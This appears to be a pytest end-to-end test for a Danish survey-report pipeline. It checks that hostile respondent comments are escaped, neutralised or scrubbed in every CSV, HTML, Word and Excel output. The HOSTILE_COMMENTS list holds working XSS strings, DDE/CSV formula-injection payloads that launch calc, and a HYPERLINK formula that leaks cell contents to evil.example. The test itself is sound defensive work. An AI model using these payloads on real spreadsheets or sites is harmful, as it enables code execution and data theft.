"""A wave whose respondents typed hostile text: script tags, event handlers, formulas (also behind a
';', where a Danish Excel splits), CPR numbers with any separators, Danish and foreign phone numbers,
e-mails around filters and with look-alike at signs, municipality names in the spellings people use,
10,000 characters, control characters and direction marks; its export lies in a folder that names
the analyst. The report still builds; no HTML element or attribute, no spreadsheet formula (split on
',' or ';'), no identifier of theirs and no folder of the export is in anything under
data/processed/ or reports/."""

import csv
import re
from html.parser import HTMLParser

import pandas as pd
import pytest
import yaml
from conftest import copy_project, snakemake
from docx import Document
from exports import AREAS, answers, write_surveyxact_files
from openpyxl import load_workbook
from test_new_wave import decide_config, scaffold

from sagstal.core.files import read_csv

pytestmark = pytest.mark.e2e

HOSTILE_COMMENTS = [
    "<script>alert('x')</script> for mange sager",
    '<img src=x onerror="alert(1)"> <a href="javascript:alert(2)" onclick="alert(3)">klik</a>',
    '=HYPERLINK("http://evil.example/?q="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "Borgeren 010190-1234 venter stadig, og 1501851234 også",
    "Skriv til hanne (at) kommune.dk eller hanne[at]kommune.dk",
    "I KØBENHAVNS KOMMUNE og i Aarhus' jobcenter er det værre end i Odenses",
    "Meget lang kommentar. " * 455,  # about 10,000 characters
    "kontrol\x01tegn\x1b[31m og \u202eretning\u202c og \u200fmærke\ufeff",
    "[klik her](javascript:alert(4)) **fed** # overskrift | tabel",
    "Sag 010190.1234, 0101 90 1234, 010190 - 1234, 01.01.90-1234 og 01-01-90 1234 venter",
    "Ring +46 70 123 45 67, +47 912 34 567, 0045 12 34 56 78, 1234 56 78 eller 12 345 678",
    "Skriv hanne＠kommune.dk, hanne﹫kommune.dk, hanne at kommune dot dk, hanne(a)kommune.dk, hanne[at]kommune[dot]dk",
    "Her i Århus og Aarhus' jobcenter, AARHUS, Kbh. og Kbh, Koebenhavn, Kobenhavn og Københavns kommune er det værre",
    "Lyngby, Høje Taastrup, Høje-Taastrup, Hoeje Taastrup, Odenses og odense har færre sager",
    "x;=cmd|' /C calc'!A0",
]
HOSTILE_CASELOADS = ["=1+1", "@SUM(1)", "+45", "-", "010190-1234"]  # typed where a number belongs
CPR = re.compile(r"(?<!\d)\d{6}[-\s]?\d{4}(?!\d)")
# What the comments above identify, as they typed it: none of it may be written anywhere
TYPED_IDENTIFIERS = ["010190.1234", "0101 90 1234", "010190 - 1234", "01.01.90-1234", "01-01-90 1234",
                     "70 123 45 67", "912 34 567", "12 34 56 78", "1234 56 78", "12 345 678", "＠", "﹫",
                     "kommune dot dk", "kommune.dk", "kommune[dot]dk", "hanne"]
# The municipality names they typed, in any case; not in the municipality column (a closed question's answer)
TYPED_NAMES = re.compile(r"(?<!\w)(?:århus|aarhus'?|kbh\.?|koebenhavn|kobenhavn|københavns?|lyngby|høje[ -]taastrup|"
                         r"hoeje taastrup|odenses?)(?!\w)", re.IGNORECASE)
EDITED = "Redigeret til tryk: ring 12 345 678 i Koebenhavn"
EXPORT_FOLDER = "bruger-sofie"  # the export lies in <tmp>/home/bruger-sofie/Downloads/
FORMULA = re.compile(r"'*[=+\-@\t\r]")
SHA256 = re.compile(r"\b[0-9a-f]{64}\b")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")


class Markup(HTMLParser):
    """Every element, attribute and text of a page."""

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.texts = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data):
        self.texts.append(data)

    def shown(self) -> str:
        """What the page says: its texts and attribute values, not its embedded images' bytes."""
        values = [str(v) for _, v in self.attributes if v and not str(v).startswith("data:")]
        return "\n".join(self.texts + values)


def hostile_people():
    people = answers(seed=7, rows=60)
    for person, comment in zip(people, HOSTILE_COMMENTS * 2):
        area = next(iter(person["areas"]))
        person["areas"][area]["comment"] = comment
    for person, typed in zip(people[-len(HOSTILE_CASELOADS):], HOSTILE_CASELOADS):
        area = next(iter(person["areas"]))
        person["areas"][area]["current"] = typed
    return people


def spreadsheet_would_run(text: str) -> bool:
    return bool(FORMULA.match(text)) and not text.startswith("'") and text != "-" and not NUMBER.fullmatch(text)


@pytest.fixture(scope="module")
def hostile_wave(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("hostile")
    work = copy_project(tmp / "project")
    export = write_surveyxact_files(tmp / "home" / EXPORT_FOLDER / "Downloads", hostile_people(), encoding="utf-8")
    scaffold(work, export)
    decide_config(work, "2025")
    # the analyst points config at the export where it lies, in a folder that names them
    config = (work / "config.yaml").read_text(encoding="utf-8")
    assert config.count("export: data/raw/2025/dataset.csv") == 1
    (work / "config.yaml").write_text(config.replace("export: data/raw/2025/dataset.csv", f"export: {export}"),
                                      encoding="utf-8")
    result = snakemake(work, "data/processed/2025/quotes.csv")
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    # a person chooses every other comment: the rest wait on the review page, so both show hostile text
    quotes = pd.read_csv(work / "data/processed/2025/quotes.csv", encoding="utf-8-sig")
    chosen = {}
    for area, quote_id in quotes[["area", "quote_id"]].iloc[::2].itertuples(index=False):
        chosen.setdefault(area, {"chosen": []})["chosen"].append(quote_id)
    # and edits one for print, leaving an identifier in: quotes.csv keeps the wording scrubbed, as typed text
    area, quote_id = quotes[["area", "quote_id"]].iloc[1]
    chosen.setdefault(area, {"chosen": []})["chosen"].append({"id": quote_id, "text": EDITED})
    (work / "data/raw/2025/citater.yaml").write_text(yaml.safe_dump(chosen), encoding="utf-8")
    result = snakemake(work, "reports/2025/rapport.html", "reports/2025/rapport.docx", "reports/2025/oversigt.xlsx",
                       "reports/2025/kodebog.xlsx", "reports/2025/gennemsyn.html")
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    return work


def written(work, *suffixes):
    return [p for folder in ("data/processed/2025", "reports/2025") for p in (work / folder).rglob("*")
            if p.suffix in suffixes]


def texts_of(path) -> str:
    if path.suffix == ".docx":
        document = Document(path)  # opens: python-docx reads it
        cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
        return "\n".join([p.text for p in document.paragraphs] + cells)
    if path.suffix == ".xlsx":
        book = load_workbook(path)
        return "\n".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
                         if c.value is not None)
    text = path.read_text(encoding="utf-8-sig")
    if path.suffix == ".html":
        markup = Markup()
        markup.feed(text)
        text = markup.shown()
    return SHA256.sub("", text)  # the export's checksum, printed in every report


def test_the_comments_reach_the_appendices(hostile_wave):
    quoted = "\n".join(texts_of(p) for p in written(hostile_wave, ".html"))
    assert "for mange sager" in quoted and "venter stadig" in quoted and "Meget lang kommentar" in quoted


def test_no_identifier_is_written_anywhere(hostile_wave):
    files = written(hostile_wave, ".csv", ".md", ".html", ".docx", ".xlsx")
    assert len(files) > 30
    for path in files:
        text = texts_of(path)
        assert not CPR.search(text), (path, CPR.search(text))
        assert "kommune.dk" not in text and "Testesen" not in text, path
        assert "\u202e" not in text and "\x1b" not in text, path
        if path.is_relative_to(hostile_wave / "reports"):
            assert not re.search(r"københavn|aarhus|odense", text, re.IGNORECASE), path


def csv_cells(path, delimiter=","):
    """Every cell of a CSV, split as a spreadsheet does: on ',' (the file's separator) or on ';' (what
    a Danish Excel splits a double-clicked CSV on)."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=delimiter))
    header = rows[0] if rows else []
    return [(header[i] if i < len(header) else "", cell) for row in rows for i, cell in enumerate(row)]


def test_none_of_the_spellings_they_typed_reaches_any_file(hostile_wave):
    files = written(hostile_wave, ".csv", ".md", ".html", ".docx", ".xlsx")
    assert len(files) > 30
    for path in files:
        if path.suffix == ".csv":  # the municipality column holds the closed question's answer, not typed text
            text = "\n".join(cell for header, cell in csv_cells(path) if header != "municipality")
        else:
            text = texts_of(path)
        found = [typed for typed in TYPED_IDENTIFIERS if typed.lower() in text.lower()]
        assert not found, (path, found)
        assert not TYPED_NAMES.search(text), (path, TYPED_NAMES.search(text))
    comments = pd.read_csv(hostile_wave / "data/processed/2025/quotes.csv", encoding="utf-8-sig")["comment"]
    assert comments.str.contains("Her i … og … jobcenter").any() and comments.str.contains("Sag …, …, …").any()
    printed = pd.read_csv(hostile_wave / "data/processed/2025/quotes.csv", encoding="utf-8-sig")["printed"]
    assert "Redigeret til tryk: ring … i …" in printed.tolist()


def test_pages_name_the_export_by_file_name_and_checksum_not_its_folder(hostile_wave):
    source = pd.read_csv(hostile_wave / "data/processed/2025/source.csv", encoding="utf-8-sig").iloc[0]
    assert EXPORT_FOLDER in source["export"]  # kept where the pipeline needs it, not printed
    pages = written(hostile_wave, ".csv", ".md", ".html", ".docx", ".xlsx", ".svg")
    pages = [p for p in pages if p.is_relative_to(hostile_wave / "reports")]
    for path in pages:
        text = texts_of(path) if path.suffix != ".svg" else path.read_text(encoding="utf-8")
        assert EXPORT_FOLDER not in text and "Downloads" not in text and "/dataset.csv" not in text, path
    named = f"dataset.csv (SHA-256 {source['sha256'][:12]}"
    for page in ("rapport.html", "rapport.docx", "oversigt.xlsx", "kodebog.xlsx"):
        assert named in texts_of(hostile_wave / "reports/2025" / page), page


def test_no_comment_becomes_an_html_element_or_attribute(hostile_wave):
    pages = written(hostile_wave, ".html")
    assert pages
    for page in pages:
        markup = Markup()
        markup.feed(page.read_text(encoding="utf-8"))
        assert "script" not in markup.tags, page
        names = {name for name, _ in markup.attributes}
        assert not {n for n in names if n.startswith("on")}, page
        assert not any(str(value).lower().startswith("javascript:") for _, value in markup.attributes), page


def test_markdown_appendices_show_markup_as_text(hostile_wave):
    for path in written(hostile_wave, ".md"):
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"(?<!\\)<(?:script|img|a)\b", text), path
        assert not re.search(r"(?<!\\)\[klik her(?<!\\)\]\(", text), path


def test_no_csv_cell_or_workbook_cell_would_run_as_a_formula(hostile_wave):
    checked = 0
    for path in written(hostile_wave, ".csv"):
        for delimiter in (",", ";"):  # as the file says, and as a Danish Excel splits it
            cells = [cell for _, cell in csv_cells(path, delimiter)]
            bad = [cell for cell in cells if spreadsheet_would_run(cell)]
            assert not bad, (path, delimiter, bad)
            checked += len(cells)
    for path in written(hostile_wave, ".xlsx"):
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and spreadsheet_would_run(cell.value):
                        assert cell.quotePrefix, (path, cell.coordinate, cell.value)
                    checked += 1
    assert checked > 1000
    ledger = (hostile_wave / "data/processed/2025/exclusions.csv").read_text(encoding="utf-8-sig")
    assert "'=1+1" in ledger and "'@SUM(1)" in ledger  # the typed formulas are kept, as text
    quotes = (hostile_wave / "data/processed/2025/quotes.csv").read_text(encoding="utf-8-sig")
    assert "\"x;'=cmd|' /C calc'!A0\"" in quotes  # quoted, and protected after the ';'
    assert "x;=cmd|' /C calc'!A0" in read_csv(hostile_wave / "data/processed/2025/quotes.csv")["comment"].tolist()


def test_every_area_is_built(hostile_wave):
    assert {p.stem.split("-", 1)[1] for p in (hostile_wave / "reports/2025/bilag").glob("*.html")} == set(AREAS)
